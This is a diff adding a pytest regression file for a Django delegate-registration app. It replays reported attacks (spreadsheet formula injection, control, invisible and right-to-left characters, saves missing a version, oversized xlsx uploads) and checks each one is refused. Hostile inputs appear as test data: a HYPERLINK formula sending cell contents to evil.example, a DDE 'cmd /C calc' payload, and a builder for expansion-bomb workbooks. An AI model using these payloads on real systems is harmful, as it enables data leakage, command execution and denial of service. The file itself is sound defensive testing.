@@ -1,0 +1,605 @@
+"""Issue #7: each attack on registration, replayed; each must fail.
+
+1 formula injection in the export, 2 control characters, 3 invisible characters,
+5 a save without its version, 7 an upload that costs the server minutes. The
+attacks needing two sessions (4, and 5 under concurrency) are in
+test_concurrency.py; 6 in tests/accounts/test_login_throttling.py; 8 in
+tests/test_production_build.py; 9 in test_services.py and test_views.py.
+"""
+
+import io
+import time
+import zipfile
+
+import openpyxl
+import pytest
+from django.urls import reverse
+
+from participants.enums import Agency, DelegateRole
+from participants.excel.reader import read_delegate_sheet
+from participants.excel.sheet_xml import Limits
+from participants.models import Delegate, DelegateImport
+from tests.factories import DelegateFactory
+
+from .test_excel_support import HEADER, upload, workbook_bytes
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+DDE = "=cmd|'/C calc'!A0"
+FORMULA_EMAIL = "=1+1@evil.vn"
+BIDI_MESSAGE = (
+    "Nội dung có ký tự ẩn điều khiển hướng chữ (như U+202E) làm nội dung hiển thị "
+    "sai lệch. Vui lòng gõ lại thay vì dán từ nơi khác."
+)
+STALE_PAGE = (
+    "Trang này đã cũ hoặc thiếu thông tin (không có số phiên bản). Chưa có gì được "
+    "lưu: vui lòng tải lại trang và thực hiện lại thay đổi."
+)
+
+
+def add_url(point):
+    return reverse("participants:delegate_add", args=[point.pk])
+
+
+def add(client, point, **overrides):
+    data = {
+        "full_name": "Nguyễn Văn An",
+        "position": "Chuyên viên",
+        "agency": Agency.HOME_AFFAIRS,
+        "agency_other": "",
+        "phone": "0912 345 678",
+        "email": "",
+        "role": DelegateRole.ATTENDEE,
+    }
+    data.update(overrides)
+    return client.post(add_url(point), data)
+
+
+def export_cells(client, point) -> list:
+    response = client.get(reverse("participants:delegate_export", args=[point.pk]))
+    assert response.status_code == 200
+    content = response.content
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            assert b"<f>" not in archive.read(name), name
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    return [
+        cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+
+
+# -- 1. formula injection -------------------------------------------------------
+
+
+def test_formula_delegates_export_as_neutralised_text_cells(
+    open_conference, hanoi_client, organiser_client, hanoi_point
+):
+    # The web form accepts all three, as the attacker found.
+    assert add(hanoi_client, hanoi_point, full_name=HYPERLINK).status_code == 302
+    assert (
+        add(
+            hanoi_client,
+            hanoi_point,
+            full_name="Trần Thị Mai",
+            agency=Agency.OTHER,
+            agency_other=DDE,
+            phone="0983 456 789",
+            email=FORMULA_EMAIL,
+        ).status_code
+        == 302
+    )
+
+    for client in (hanoi_client, organiser_client):
+        cells = export_cells(client, hanoi_point)
+        assert {cell.data_type for cell in cells} == {"s"}
+        values = [cell.value for cell in cells]
+        assert "'" + HYPERLINK in values
+        assert "'" + DDE in values
+        assert "'" + FORMULA_EMAIL in values
+        assert not [v for v in values if v.startswith(("=", "+", "-", "@"))]
+
+
+def test_the_template_holds_only_string_cells(
+    open_conference, hanoi_client, hanoi_point
+):
+    response = hanoi_client.get(
+        reverse("participants:delegate_template", args=[hanoi_point.pk])
+    )
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    cells = [
+        cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+    assert cells and {cell.data_type for cell in cells} == {"s"}
+
+
+def test_an_exported_formula_name_imports_back_as_it_was(
+    open_conference, hanoi_client, hanoi_point
+):
+    DelegateFactory(point=hanoi_point, full_name=HYPERLINK, role=DelegateRole.CHAIR)
+    exported = hanoi_client.get(
+        reverse("participants:delegate_export", args=[hanoi_point.pk])
+    ).content
+
+    sheet = read_delegate_sheet(exported, file_name="x.xlsx", max_rows=10)
+
+    from participants.excel.reader import Vocabulary, row_data
+
+    rows = [row_data(row, vocabulary=Vocabulary.build()) for row in sheet.rows]
+    assert [row.data["full_name"] for row in rows] == [HYPERLINK]
+
+
+# -- 2. control characters --------------------------------------------------------
+
+
+def test_control_characters_are_stripped_by_the_web_form(
+    open_conference, hanoi_client, hanoi_point
+):
+    response = add(
+        hanoi_client,
+        hanoi_point,
+        full_name="Nguyễn\x01 Văn\x1b An",
+        position="Chuyên\x07 viên",
+    )
+
+    assert response.status_code == 302
+    assert Delegate.objects.values_list("full_name", "position").get() == (
+        "Nguyễn Văn An",
+        "Chuyên viên",
+    )
+
+
+def test_control_characters_are_stripped_from_the_point_form(
+    open_conference, hanoi_client, hanoi_point
+):
+    response = hanoi_client.post(
+        reverse("participants:point_edit", args=[hanoi_point.pk]),
+        {
+            "room": "Phòng\x01 họp số 2\u200b",
+            "address": "12 Lê\x0c Lai",
+            "technical_contact_name": "Vũ\x02 Kỹ Thuật",
+            "technical_contact_phone": "",
+            "version": hanoi_point.version,
+        },
+    )
+
+    assert response.status_code == 302
+    hanoi_point.refresh_from_db()
+    assert (
+        hanoi_point.room,
+        hanoi_point.address,
+        hanoi_point.technical_contact_name,
+    ) == (
+        "Phòng họp số 2",
+        "12 Lê Lai",
+        "Vũ Kỹ Thuật",
+    )
+
+
+def test_data_stored_before_the_fix_still_exports(
+    open_conference, hanoi_client, organiser_client, hanoi_point
+):
+    DelegateFactory(
+        point=hanoi_point, full_name="Nguyễn\x01 Văn An", position="Chuyên\x0b viên"
+    )
+
+    for client in (hanoi_client, organiser_client):
+        values = [cell.value for cell in export_cells(client, hanoi_point)]
+        assert "Nguyễn Văn An" in values
+        assert "Chuyên viên" in values
+
+
+# -- 3. invisible characters -----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "invisible", ["\u200e", "\u00ad", "\u034f", "\u200b", "\ufeff"]
+)
+def test_the_same_person_with_an_invisible_character_is_a_duplicate(
+    open_conference, hanoi_client, hanoi_point, invisible
+):
+    assert add(hanoi_client, hanoi_point).status_code == 302
+
+    response = add(hanoi_client, hanoi_point, full_name=f"Nguyễn{invisible} Văn An")
+
+    assert response.status_code == 200
+    assert "Nguyễn Văn An với số điện thoại này đã có trong danh sách." in (
+        response.content.decode()
+    )
+    assert Delegate.objects.count() == 1
+
+
+def test_a_duplicate_already_stored_with_invisible_characters_is_found(
+    open_conference, hanoi_client, hanoi_point
+):
+    DelegateFactory(
+        point=hanoi_point, full_name="Nguyễn\u200e Văn An", phone="+84912345678"
+    )
+
+    response = add(hanoi_client, hanoi_point)
+
+    assert response.status_code == 200
+    assert Delegate.objects.count() == 1
+
+
+def test_a_right_to_left_override_is_refused_with_what_was_typed(
+    open_conference, hanoi_client, hanoi_point
+):
+    response = add(hanoi_client, hanoi_point, full_name="Nguyễn Văn \u202enA")
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert BIDI_MESSAGE in html
+    assert 'value="0912 345 678"' in html
+    assert Delegate.objects.count() == 0
+
+
+def test_the_import_catches_invisible_duplicates_and_bidi_overrides(
+    open_conference, hanoi_client, hanoi_point
+):
+    DelegateFactory(point=hanoi_point, full_name="Nguyễn Văn An", phone="+84912345678")
+    data = workbook_bytes(
+        [
+            [1, "Nguyễn\u200e Văn\u00ad An", "", "Sở Nội vụ", "", "0912345678", "", ""],
+            [2, "Lê Văn \u202eTám", "", "Sở Nội vụ", "", "", "", ""],
+        ]
+    )
+
+    hanoi_client.post(
+        reverse("participants:delegate_import", args=[hanoi_point.pk]),
+        {"file": upload(data), "mode": "append"},
+    )
+
+    delegate_import = DelegateImport.objects.get()
+    assert set(delegate_import.row_errors) == {"2", "3"}
+    assert "đã có trong danh sách" in " ".join(delegate_import.row_errors["2"])
+    assert delegate_import.row_errors["3"] == [f"Họ và tên: {BIDI_MESSAGE}"]
+
+
+# -- 5. a save without its version --------------------------------------------------
+
+
+@pytest.mark.parametrize("version", [None, "", "abc", "-3"])
+def test_a_delegate_edit_without_a_valid_version_is_refused_keeping_the_input(
+    open_conference, hanoi_client, hanoi_point, version
+):
+    delegate = DelegateFactory(point=hanoi_point, position="Chuyên viên")
+    data = {
+        "full_name": delegate.full_name,
+        "position": "Trưởng phòng mới",
+        "agency": delegate.agency,
+        "phone": "",
+        "email": "",
+        "role": delegate.role,
+    }
+    if version is not None:
+        data["version"] = version
+
+    response = hanoi_client.post(
+        reverse("participants:delegate_edit", args=[hanoi_point.pk, delegate.pk]), data
+    )
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert STALE_PAGE in html
+    assert 'value="Trưởng phòng mới"' in html
+    delegate.refresh_from_db()
+    assert (delegate.position, delegate.version) == ("Chuyên viên", 1)
+
+
+def test_a_point_edit_without_its_version_is_refused_keeping_the_input(
+    open_conference, hanoi_client, hanoi_point
+):
+    response = hanoi_client.post(
+        reverse("participants:point_edit", args=[hanoi_point.pk]),
+        {"room": "Phòng 305", "address": "", "technical_contact_name": ""},
+    )
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert STALE_PAGE in html
+    assert 'value="Phòng 305"' in html
+    hanoi_point.refresh_from_db()
+    assert hanoi_point.room == "Phòng họp trực tuyến UBND tỉnh"
+
+
+@pytest.mark.parametrize("version", [None, "x"])
+def test_a_submit_or_delete_without_its_version_is_refused(
+    open_conference, hanoi_client, hanoi_point, version
+):
+    delegate = DelegateFactory(point=hanoi_point, role=DelegateRole.CHAIR)
+    data = {} if version is None else {"list_version": version, "version": version}
+
+    submit = hanoi_client.post(
+        reverse("participants:point_submit", args=[hanoi_point.pk]), data, follow=True
+    )
+    delete = hanoi_client.post(
+        reverse("participants:delegate_delete", args=[hanoi_point.pk, delegate.pk]),
+        data,
+        follow=True,
+    )
+
+    for response in (submit, delete):
+        assert STALE_PAGE in response.content.decode()
+    hanoi_point.refresh_from_db()
+    assert hanoi_point.registration_status == "draft"
+    assert Delegate.objects.filter(pk=delegate.pk).exists()
+
+
+# -- 7. an upload that costs minutes -----------------------------------------------
+
+CONTENT_TYPES = (
+    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.'
+    'openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
+    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    '<Default Extension="xml" ContentType="application/xml"/><Override '
+    'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
+    'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
+    'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
+    'officedocument.spreadsheetml.worksheet+xml"/>{strings}</Types>'
+)
+STRINGS_TYPE = (
+    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
+    'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
+)
+ROOT_RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
+)
+WORKBOOK = (
+    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.'
+    'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
+    'openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
+    'name="Danh sách đại biểu" sheetId="1" r:id="rId1"/></sheets></workbook>'
+)
+WORKBOOK_RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    'worksheet" Target="worksheets/sheet1.xml"/>{strings}</Relationships>'
+)
+STRINGS_REL = (
+    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
+    'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
+)
+SHEET_START = (
+    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
+    'openxmlformats.org/spreadsheetml/2006/main">'
+)
+
+
+def raw_xlsx(sheet_parts, *, shared_strings=None) -> bytes:
+    """A minimal valid .xlsx whose sheet XML is streamed from `sheet_parts`."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        strings = shared_strings is not None
+        z.writestr(
+            "[Content_Types].xml",
+            CONTENT_TYPES.format(strings=STRINGS_TYPE if strings else ""),
+        )
+        z.writestr("_rels/.rels", ROOT_RELS)
+        z.writestr("xl/workbook.xml", WORKBOOK)
+        z.writestr(
+            "xl/_rels/workbook.xml.rels",
+            WORKBOOK_RELS.format(strings=STRINGS_REL if strings else ""),
+        )
+        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
+            for part in sheet_parts:
+                sheet.write(part.encode())
+        if strings:
+            with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as sst:
+                for part in shared_strings:
+                    sst.write(part.encode())
+    return buffer.getvalue()
+
+
+def header_row() -> str:
+    cells = "".join(
+        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{text}</t></is></c>'
+        for i, text in enumerate(HEADER)
+    )
+    return f'<row r="1">{cells}</row>'
+
+
+def delegate_row(number: int, *, extra_columns: int = 0) -> str:
+    cells = (
+        f'<c r="B{number}" t="inlineStr"><is><t>Nguyễn Văn {number}</t></is></c>'
+        f'<c r="D{number}" t="inlineStr"><is><t>Sở Nội vụ</t></is></c>'
+    )
+    for column in range(extra_columns):
+        cells += f'<c r="{chr(73 + column)}{number}"><v>1</v></c>'
+    return f'<row r="{number}">{cells}</row>'
+
+
+def refused_quickly(client, point, data: bytes) -> str:
+    started = time.perf_counter()
+    response = client.post(
+        reverse("participants:delegate_import", args=[point.pk]),
+        {"file": upload(data), "mode": "append"},
+    )
+    elapsed = time.perf_counter() - started
+    assert response.status_code == 200
+    assert DelegateImport.objects.count() == 0
+    assert elapsed < 3, elapsed
+    return response.content.decode()
+
+
+def test_the_reported_attack_file_is_refused_before_any_cell_is_parsed(
+    open_conference, hanoi_client, hanoi_point
+):
+    # 3 MB that unpack to 64 MB: two million cells in the header-scan rows.
+    cells = "".join(f'<c r="A{n % 15 + 1}"><v>1</v></c>' for n in range(1000))
+    data = raw_xlsx(
+        [SHEET_START, "<sheetData>", header_row()]
+        + ['<row r="2">' + cells + "</row>"] * 2000
+        + ["</sheetData></worksheet>"]
+    )
+    assert len(data) < 5 * 1024 * 1024
+
+    html = refused_quickly(hanoi_client, hanoi_point, data)
+
+    assert "Một phần của tệp Excel (xl/worksheets/sheet1.xml) khi giải nén" in html
+
+
+def test_a_sheet_declaring_a_huge_size_is_refused_before_its_rows(
+    open_conference, hanoi_client, hanoi_point
+):
+    data = raw_xlsx(
+        [
+            SHEET_START,
+            '<dimension ref="A1:XFD1048576"/><sheetData>',
+            header_row(),
+            delegate_row(2),
+            "</sheetData></worksheet>",
+        ]
+    )
+
+    html = refused_quickly(hanoi_client, hanoi_point, data)
+
+    assert (
+        "Trang tính “Danh sách đại biểu” dùng đến cột XFD; danh sách đại biểu chỉ "
+        "được dùng tối đa 32 cột (từ A đến AF)."
+    ) in html
+
+
+def test_a_sheet_declaring_a_million_rows_is_refused(
+    open_conference, hanoi_client, hanoi_point
+):
+    data = raw_xlsx(
+        [
+            SHEET_START,
+            '<dimension ref="A1:H1048576"/><sheetData>',
+            header_row(),
+            delegate_row(2),
+            "</sheetData></worksheet>",
+        ]
+    )
+
+    html = refused_quickly(hanoi_client, hanoi_point, data)
+
+    assert "Trang tính “Danh sách đại biểu” kéo dài đến dòng 1048576" in html
+
+
+def test_a_header_row_with_thousands_of_cells_is_refused(
+    open_conference, hanoi_client, hanoi_point
+):
+    wide = "".join(f'<c r="H1"><v>{n}</v></c>' for n in range(100_000))
+    data = raw_xlsx(
+        [SHEET_START, "<sheetData>", '<row r="1">', wide, "</row>", delegate_row(2)]
+        + ["</sheetData></worksheet>"]
+    )
+
+    html = refused_quickly(hanoi_client, hanoi_point, data)
+
+    assert "danh sách đại biểu chỉ được dùng tối đa 32 cột" in html
+
+
+def test_a_row_far_below_the_list_is_refused():
+    data = raw_xlsx(
+        [SHEET_START, "<sheetData>", header_row(), delegate_row(2)]
+        + [delegate_row(1_000_000), "</sheetData></worksheet>"]
+    )
+
+    from participants.excel.container import WorkbookRefused
+
+    with pytest.raises(WorkbookRefused) as exc:
+        read_delegate_sheet(data, file_name="x.xlsx", max_rows=5000)
+    assert exc.value.code == "too_many_sheet_rows"
+
+
+def test_more_cells_than_a_list_needs_are_refused():
+    limits = Limits(max_rows=50)  # 1,600 cells at most
+    rows = [delegate_row(n, extra_columns=17) for n in range(2, 101)]
+    data = raw_xlsx(
+        [SHEET_START, "<sheetData>", header_row(), *rows, "</sheetData></worksheet>"]
+    )
+
+    from participants.excel.container import WorkbookRefused
+
+    with pytest.raises(WorkbookRefused) as exc:
+        read_delegate_sheet(data, file_name="x.xlsx", max_rows=limits.max_rows)
+    assert exc.value.code == "too_many_cells"
+
+
+def test_more_shared_strings_than_a_list_needs_are_refused():
+    data = raw_xlsx(
+        [SHEET_START, "<sheetData>", header_row(), delegate_row(2)]
+        + ["</sheetData></worksheet>"],
+        shared_strings=[
+            '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.'
+            'openxmlformats.org/spreadsheetml/2006/main">',
+            "".join(f"<si><t>{n}</t></si>" for n in range(3000)),
+            "</sst>",
+        ],
+    )
+
+    from participants.excel.container import WorkbookRefused
+
+    with pytest.raises(WorkbookRefused) as exc:
+        read_delegate_sheet(data, file_name="x.xlsx", max_rows=100)
+    assert exc.value.code == "too_many_strings"
+
+
+def test_a_file_at_the_limits_is_read(settings):
+    max_rows = settings.DELEGATE_IMPORT_MAX_ROWS
+    rows = [delegate_row(n, extra_columns=8) for n in range(2, max_rows + 2)]
+    data = raw_xlsx(
+        [SHEET_START, "<sheetData>", header_row(), *rows, "</sheetData></worksheet>"]
+    )
+
+    sheet = read_delegate_sheet(data, file_name="x.xlsx", max_rows=max_rows)
+
+    assert len(sheet.rows) == max_rows
+
+
+def test_admin_forms_clean_text_the_same_way(rf, hanoi_point):
+    from django.contrib import admin
+
+    from conference.models import BridgePoint
+
+    request = rf.get("/admin/")
+    request.user = factories_admin()
+    delegate_form = admin.site._registry[Delegate].get_form(request)
+    point_form = admin.site._registry[BridgePoint].get_form(request, obj=hanoi_point)
+
+    delegate = delegate_form(
+        data={
+            "point": hanoi_point.pk,
+            "full_name": "Nguyễn\x01 Văn\u200e An",
+            "agency": Agency.HOME_AFFAIRS,
+            "role": DelegateRole.ATTENDEE,
+            "version": 1,
+        }
+    )
+    assert delegate.is_valid(), delegate.errors
+    assert delegate.cleaned_data["full_name"] == "Nguyễn Văn An"
+    refused = delegate_form(
+        data={
+            "point": hanoi_point.pk,
+            "full_name": "Nguyễn Văn \u202eAn",
+            "agency": Agency.HOME_AFFAIRS,
+            "role": DelegateRole.ATTENDEE,
+            "version": 1,
+        }
+    )
+    assert refused.errors["full_name"] == [BIDI_MESSAGE]
+    assert "room" in point_form.base_fields
+    point = point_form(instance=hanoi_point, data={"room": "Phòng\x01 1"})
+    point.is_valid()
+    assert point.cleaned_data["room"] == "Phòng 1"
+
+
+def factories_admin():
+    from tests.factories import admin_user
+
+    return admin_user(username="admin-text", is_staff=True, is_superuser=True)
